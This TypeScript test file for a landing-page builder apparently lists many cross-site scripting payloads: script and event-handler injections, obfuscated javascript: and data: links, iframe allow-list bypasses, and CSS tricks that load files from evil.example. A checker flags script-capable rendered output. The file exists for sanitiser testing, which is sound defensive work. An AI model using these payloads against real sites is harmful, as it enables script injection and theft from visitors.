/**
 * XSS payloads a landing document may carry, each wrapped in a whole document, plus a checker of
 * rendered output. `validateDocument()` must refuse every case, and `renderDocument()` must turn
 * every case into inert output; a browser test can load the same documents in Chromium.
 */
import { IFRAME_ALLOW_LIST } from './sanitize.ts';

export type XssCase = { name: string; document: unknown };

type RawElement = Record<string, unknown> & { attributes: Record<string, unknown>; childrens: RawElement[] };

function el(type: string, id: string, extra: Partial<RawElement> = {}, parentId = 'dropZone'): RawElement {
  return {
    type,
    name: type,
    styles: {},
    stylesMobile: {},
    stylesApplyInMobile: true,
    childrens: [],
    parentId,
    ...extra,
    attributes: { id, ...extra.attributes },
  };
}

function page(elements: RawElement[], pageExtra: Record<string, unknown> = {}): unknown {
  return { schemaVersion: 1, page: { title: 'XSS', ...pageExtra }, elements };
}

/** A form holding `child` (for payloads in form controls). */
function inForm(child: RawElement): unknown {
  return page([el('form', 'f1', { childrens: [{ ...child, parentId: 'f1' }] })]);
}

const text = (type: string, payload: string): XssCase => ({
  name: `${type} text ${payload}`,
  document: page([el(type, 'x1', { text: payload })]),
});
const link = (href: string): XssCase => ({
  name: `a href ${JSON.stringify(href)}`,
  document: page([el('a', 'x1', { text: 'go', attributes: { id: 'x1', href } })]),
});
const image = (src: string): XssCase => ({
  name: `img src ${JSON.stringify(src)}`,
  document: page([el('img', 'x1', { attributes: { id: 'x1', src } })]),
});
const frame = (src: string): XssCase => ({
  name: `iframe src ${JSON.stringify(src)}`,
  document: page([el('iframe', 'x1', { attributes: { id: 'x1', src } })]),
});
const attribute = (type: string, name: string, value: unknown): XssCase => ({
  name: `${type} attribute ${name}=${JSON.stringify(value)}`,
  document: page([el(type, 'x1', { attributes: { id: 'x1', [name]: value } })]),
});
const style = (property: string, value: string, key: 'styles' | 'stylesMobile' = 'styles'): XssCase => ({
  name: `${key}.${property} ${JSON.stringify(value)}`,
  document: page([el('div', 'x1', { [key]: { [property]: value } })]),
});

export const XSS_CASES: readonly XssCase[] = [
  // markup in text and plain attributes
  text('p', '<script>alert(1)</script>'),
  text('h1', '<img src=x onerror=alert(1)>'),
  text('p', '</p><script>alert(1)</script>'),
  text('li', '<svg/onload=alert(1)>'),
  text('button', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'),
  text('label', '<!--<img src=x onerror=alert(1)>-->'),
  text('h2', '< script>alert(1)</script>'),
  text('p', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>'),
  {
    name: 'element name with markup',
    document: page([el('div', 'x1', { name: '<script>alert(1)</script>' })]),
  },
  attribute('img', 'alt', '"><script>alert(1)</script>'),
  attribute('img', 'title', "' onmouseover='alert(1)"),
  {
    name: 'input placeholder breaking out of the attribute',
    document: inForm(
      el('input', 'x1', { attributes: { id: 'x1', placeholder: '" onfocus="alert(1)" autofocus="' } }),
    ),
  },
  {
    name: 'option value with svg',
    document: inForm(
      el('select', 's1', {
        childrens: [
          el('option', 'o1', { text: 'a', attributes: { id: 'o1', value: '"><svg onload=alert(1)>' } }, 's1'),
        ],
      }),
    ),
  },
  {
    name: 'page title closing the title element',
    document: page([], { title: '</title><script>alert(1)</script>' }),
  },
  {
    name: 'page description with markup',
    document: page([], { description: '"><script>alert(1)</script>' }),
  },
  // links
  link('javascript:alert(1)'),
  link('JaVaScRiPt:alert(1)'),
  link('  javascript:alert(1)'),
  link('java\tscript:alert(1)'),
  link('java\nscript:alert(1)'),
  link('\u0001javascript:alert(1)'),
  link('\u200bjavascript:alert(1)'),
  link('javascript&#58;alert(1)'),
  link('javascript&colon;alert(1)'),
  link('&#106;avascript:alert(1)'),
  link('&#x6A;&#x61;vascript:alert(1)'),
  link('jav&#x09;ascript:alert(1)'),
  link('javascript%3Aalert(1)'),
  link('vbscript:msgbox(1)'),
  link('data:text/html,<script>alert(1)</script>'),
  link('data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='),
  link('//evil.example/phish'),
  link('https://ok.example/" onclick="alert(1)'),
  // images
  image('javascript:alert(1)'),
  image('data:image/svg+xml,<svg onload=alert(1)>'),
  image('data:image/png;base64,iVBORw0KGgo='),
  image('x" onerror="alert(1)'),
  image('mailto:x@example.com'),
  { name: 'share image javascript:', document: page([], { shareImageUrl: 'javascript:alert(1)' }) },
  { name: 'share title with a script', document: page([], { shareTitle: '"><script>alert(1)</script>' }) },
  {
    name: 'share description with a handler',
    document: page([], { shareDescription: 'x" onmouseover="alert(1)' }),
  },
  {
    name: 'share buttons with a link href',
    document: page([el('share-buttons', 's', { attributes: { id: 's', href: 'javascript:alert(1)' } })]),
  },
  // iframes
  frame('https://evil.example/'),
  frame('https://www.youtube.com.evil.example/embed/x'),
  frame('https://www.youtube.com@evil.example/embed/x'),
  frame('http://www.youtube.com/embed/x'),
  frame('javascript:alert(1)'),
  frame('data:text/html,<script>alert(1)</script>'),
  frame('https://evil.example/?https://www.youtube.com/embed/x'),
  frame('https://www.youtube.com/embed/../../redirect?q=https://evil.example'),
  frame('https://www.google.com/url?q=https://evil.example'),
  // attributes outside the allow-list, and ids/keys breaking out of attributes
  attribute('img', 'onerror', 'alert(1)'),
  attribute('a', 'onclick', 'alert(1)'),
  attribute('div', 'onmouseover', 'alert(1)'),
  attribute('iframe', 'srcdoc', '<script>alert(1)</script>'),
  attribute('div', 'style', 'background:url(javascript:alert(1))'),
  attribute('button', 'formaction', 'javascript:alert(1)'),
  attribute('a', 'xlink:href', 'javascript:alert(1)'),
  attribute('div', 'dangerouslySetInnerHTML', { __html: '<script>alert(1)</script>' }),
  attribute('div', 'id', 'x" onmouseover="alert(1)'),
  attribute('div', 'id', 'a{}</style><script>alert(1)</script>'),
  attribute('label', 'htmlFor', 'x" onclick="alert(1)'),
  attribute('div', 'src', 'javascript:alert(1)'),
  {
    name: 'fieldKey breaking out of name',
    document: inForm(
      el('input', 'x1', { attributes: { id: 'x1', fieldKey: '"><script>alert(1)</script>' } }),
    ),
  },
  {
    name: 'mask breaking out of data-mask',
    document: inForm(
      el('masked-input', 'x1', { attributes: { id: 'x1', mask: '"><script>alert(1)</script>' } }),
    ),
  },
  { name: 'element type script', document: page([el('script', 'x1', { text: 'alert(1)' })]) },
  { name: 'element type svg', document: page([el('svg', 'x1')]) },
  { name: 'element type style', document: page([el('style', 'x1', { text: 'body{background:url(x)}' })]) },
  {
    name: 'element type object',
    document: page([el('object', 'x1', { attributes: { id: 'x1', data: 'x.swf' } })]),
  },
  // CSS
  style('width', 'expression(alert(1))'),
  style('backgroundImage', 'url(javascript:alert(1))'),
  style('backgroundImage', 'url("javascript:alert(1)")'),
  style('backgroundImage', 'url(data:image/svg+xml;base64,PHN2Zz4=)'),
  style('backgroundImage', 'image-set("javascript:alert(1)" 1x)'),
  style('color', 'red;}</style><script>alert(1)</script>'),
  style('fontFamily', '</style><script>alert(1)</script>'),
  style('width', '1px;background:url(https://evil.example/track)'),
  style('MozBinding', 'url(https://evil.example/xss.xml#xss)'),
  style('behavior', 'url(xss.htc)'),
  style('width', '\\65 xpression(alert(1))'),
  style('width', 'calc(1px)}body{display:none'),
  style('margin', '0/**/;@import url(https://evil.example/x.css)'),
  style('color', '#fff</style><script>alert(1)</script>', 'stylesMobile'),
  style('height', 'attr(data-x)'),
  {
    name: 'page background colour with url()',
    document: page([], { styles: { backgroundColor: 'url(javascript:alert(1))' } }),
  },
];

// --- checking rendered output ------------------------------------------------------------

const RENDERED_TAGS = new Set([
  'div',
  'h1',
  'h2',
  'h3',
  'h4',
  'h5',
  'p',
  'a',
  'ul',
  'ol',
  'li',
  'form',
  'img',
  'input',
  'textarea',
  'button',
  'label',
  'select',
  'option',
  'iframe',
]);
const RENDERED_ATTRIBUTES = new Set([
  'id',
  'class',
  'title',
  'href',
  'target',
  'rel',
  'src',
  'alt',
  'width',
  'height',
  'loading',
  'decoding',
  'sandbox',
  'allow',
  'referrerpolicy',
  'method',
  'data-landing-form',
  'data-map',
  'data-reward-code',
  'aria-live',
  'aria-label',
  'type',
  'name',
  'placeholder',
  'value',
  'required',
  'data-mask',
  'data-date-part',
  'for',
  'role',
  'data-network',
  'data-share-copy',
]);

function unescapeAttribute(value: string): string {
  return value
    .replace(/&quot;/g, '"')
    .replace(/&#39;/g, "'")
    .replace(/&lt;/g, '<')
    .replace(/&gt;/g, '>')
    .replace(/&amp;/g, '&');
}

function isInertUrl(value: string): boolean {
  // biome-ignore lint/suspicious/noControlCharactersInRegex: browsers strip these from URLs.
  const squashed = value.replace(/[\u0000-\u0020\u007f-\u00a0\u200b-\u200f\ufeff]/g, '').toLowerCase();
  return !/^(javascript|vbscript|data|file|blob):/.test(squashed) && !squashed.startsWith('//');
}

/**
 * Reasons the rendered output could execute something: unknown tags or attributes, malformed
 * tags, script-capable URLs, iframes off the allow-list or unsandboxed, dangerous CSS. Independent
 * of the renderer's own checks on purpose. Empty means inert.
 */
export function findUnsafeOutput(html: string, css: string): string[] {
  const problems: string[] = [];
  if (/<!|<\?/.test(html)) problems.push('comment or declaration in html');
  const tags = /<(\/?)([^\s>/]*)([^>]*)>/g;
  let stripped = html;
  for (const match of html.matchAll(tags)) {
    const [whole, closing, rawName = '', rest = ''] = match;
    stripped = stripped.replace(whole, '');
    const name = rawName.toLowerCase();
    if (!RENDERED_TAGS.has(name)) problems.push(`tag <${closing}${rawName}>`);
    if (closing) {
      if (rest.trim() !== '') problems.push(`closing tag with attributes ${whole}`);
      continue;
    }
    if (!/^(\s[a-z-]+(="[^"<>]*")?)*$/.test(rest)) problems.push(`malformed attributes ${whole}`);
    const attributes = new Map<string, string>();
    for (const [, attrName = '', value = ''] of rest.matchAll(/\s([a-z-]+)(?:="([^"]*)")?/g)) {
      if (!RENDERED_ATTRIBUTES.has(attrName)) problems.push(`attribute ${attrName} on <${name}>`);
      attributes.set(attrName, unescapeAttribute(value));
    }
    for (const key of ['href', 'src'] as const) {
      const value = attributes.get(key);
      if (value !== undefined && !isInertUrl(value)) problems.push(`${key}=${value}`);
    }
    if (name === 'iframe') {
      const src = attributes.get('src') ?? '';
      const host = /^https:\/\/([^/?#]+)\//.exec(src)?.[1];
      if (host === undefined || !Object.hasOwn(IFRAME_ALLOW_LIST, host)) problems.push(`iframe src ${src}`);
      if (!attributes.has('sandbox')) problems.push('iframe without sandbox');
    }
  }
  if (/[<>]/.test(stripped)) problems.push('stray angle bracket outside tags');

  const lowerCss = css.toLowerCase();
  for (const token of [
    '<',
    '\\',
    'expression(',
    '@import',
    'javascript:',
    'behavior',
    '-moz-binding',
    '/*',
  ]) {
    if (lowerCss.includes(token)) problems.push(`css contains ${token}`);
  }
  for (const match of lowerCss.matchAll(/url\(([^)]*)\)/g)) {
    if (!/^"(https?:\/\/|\/(?!\/)|[a-z0-9._~-])[^"]*"$/.test(match[1] ?? ''))
      problems.push(`css ${match[0]}`);
  }
  let depth = 0;
  for (const char of css) {
    if (char === '{') depth += 1;
    else if (char === '}') depth -= 1;
    if (depth < 0 || depth > 2) problems.push('css braces out of balance');
  }
  if (depth !== 0) problems.push('css braces out of balance');
  return problems;
}
